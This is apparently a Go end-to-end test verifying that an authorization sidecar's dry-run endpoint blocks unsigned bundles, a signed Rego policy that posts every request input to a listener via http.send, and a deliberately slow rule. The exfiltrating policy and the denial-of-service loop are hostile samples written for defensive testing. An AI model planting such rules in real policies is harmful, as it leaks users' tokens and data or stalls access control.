package e2e

import (
	"bytes"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/svc-dev/svc/internal/harness"
	"github.com/svc-dev/svc/internal/testkit"
	"github.com/svc-dev/svc/wire"
)

// exfilCandidate posts every input it sees (claims, headers, query
// values) to url, and allows what the default policy allows.
func exfilCandidate(url string) string {
	return `package svc.authz

allow if {
	resp := http.send({"method": "POST", "url": "` + url + `", "body": input, "raise_error": false, "timeout": "1s"})
	resp.status_code == 299
}
`
}

// slowCandidate makes every denied decision iterate 25 million times:
// minutes of evaluation unless it is cut off.
const slowCandidate = `package svc.authz

allow if {
	some i in numbers.range(1, 5000)
	some j in numbers.range(1, 5000)
	i * j == -1
}
`

// TestDryRunCandidateAttack attacks the dry-run endpoint of a sidecar
// that requires signed bundles: an unsigned candidate is refused as a
// directory reload is (409 signed-bundle-required); a signed candidate
// that would post every live input to a listener does not compile (422
// policy-builtin-forbidden) and the listener hears nothing while traffic
// flows; a signed candidate with a slow rule is cut off at
// policy.dry_run_eval_timeout, its overruns counted, and live decisions
// keep their pace.
func TestDryRunCandidateAttack(t *testing.T) {
	t.Parallel()
	k := newKeyring(t)
	keys := t.TempDir()
	signKey, verifyKey := ecKeyPair(t, keys)
	var heard testkit.RequestLog
	listener := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		heard.Add(r)
		w.WriteHeader(http.StatusNoContent)
	}))
	t.Cleanup(listener.Close)

	s := harness.StartSidecar(t, harness.SidecarOptions{
		Config: sidecarConfig + `
[policy]
dry_run_eval_timeout = "20ms"
`,
		Env: map[string]string{"SVC_JWKS_URL": k.jwks.URL, "SVC_BUNDLE_VERIFY_KEY_FILE": verifyKey},
	})
	// candidate bundles the default policy plus extra, signed with key
	// (unsigned when empty).
	candidate := func(name, extra, key string) []byte {
		t.Helper()
		dir := t.TempDir()
		harness.WriteFile(t, dir, "authz.rego", readPolicy(t))
		if extra != "" {
			harness.WriteFile(t, dir, "extra.rego", extra)
		}
		out := filepath.Join(keys, name+".tar.gz")
		args := []string{"policy", "bundle", "--dir", dir, "--revision", name, "--out", out}
		if key != "" {
			args = append(args, "--sign-key", key)
		}
		if code, _, stderr := runCore(t, args...); code != 0 {
			t.Fatalf("core policy bundle: %s", stderr)
		}
		b, err := os.ReadFile(out)
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	start := func(body []byte) (int, []byte) {
		t.Helper()
		req, _ := http.NewRequest(http.MethodPost, s.URL("/v1/dry-run/sessions?duration=10m&queue_size=4"), bytes.NewReader(body))
		req.Header.Set("Content-Type", "application/gzip")
		code, _, resp := harness.Do(t, req)
		return code, resp
	}
	errCode := func(body []byte) string {
		var e wire.ErrorBody
		_ = json.Unmarshal(body, &e)
		return e.Error.Code
	}
	viewer := k.token(t, "alice", "acme", "viewer")
	traffic := func(n int) time.Duration {
		t.Helper()
		var slowest time.Duration
		for range n {
			t0 := time.Now()
			r := envoyCheck(t, s, "DELETE", "/orders/1?card=4111111111111111", viewer, map[string]string{"x-api-key": "live-key-7f3a"})
			if d := time.Since(t0); d > slowest {
				slowest = d
			}
			if r.status != http.StatusForbidden {
				t.Errorf("a viewer's delete was answered %d %s", r.status, r.body)
			}
		}
		return slowest
	}

	// 1. Unsigned: refused as a directory reload is.
	if code, body := start(candidate("unsigned", "", "")); code != http.StatusConflict || errCode(body) != "signed-bundle-required" {
		t.Errorf("unsigned candidate = %d %s, want 409 signed-bundle-required", code, body)
	}

	// 2. Signed, posting every input out: does not compile.
	code, body := start(candidate("exfil", exfilCandidate(listener.URL+"/collect"), signKey))
	if code != http.StatusUnprocessableEntity || errCode(body) != "policy-builtin-forbidden" ||
		!strings.Contains(string(body), "http.send") || !strings.Contains(string(body), "policy.allow_network_builtins") {
		t.Errorf("candidate calling http.send = %d %s, want 422 policy-builtin-forbidden naming http.send and the setting", code, body)
	}
	traffic(5)
	if got := heard.List(); len(got) > 0 {
		t.Errorf("the listener heard %d requests carrying live input", len(got))
	}

	// 3. Signed and slow: each evaluation is cut off and counted, and
	// live decisions keep their pace.
	code, body = start(candidate("slow", slowCandidate, signKey))
	var rep struct {
		ID                                              string
		Decisions, Evaluated, Errors, Timeouts, Skipped int
	}
	if code != http.StatusCreated || json.Unmarshal(body, &rep) != nil {
		t.Fatalf("slow signed candidate = %d %s, want 201", code, body)
	}
	const n = 12
	if slowest := traffic(n); slowest > 2*time.Second {
		t.Errorf("the slowest live decision took %s during the slow candidate's session", slowest)
	}
	req, _ := http.NewRequest(http.MethodDelete, s.URL("/v1/dry-run/sessions/"+rep.ID), nil)
	code, _, body = harness.Do(t, req)
	if code != http.StatusOK || json.Unmarshal(body, &rep) != nil {
		t.Fatalf("stop the session = %d %s", code, body)
	}
	if rep.Decisions != n || rep.Evaluated+rep.Skipped != n || rep.Evaluated == 0 || rep.Timeouts != rep.Evaluated || rep.Errors != rep.Timeouts {
		t.Errorf("report %s: want every evaluation of the %d decisions cut off and counted in timeouts", body, n)
	}
}
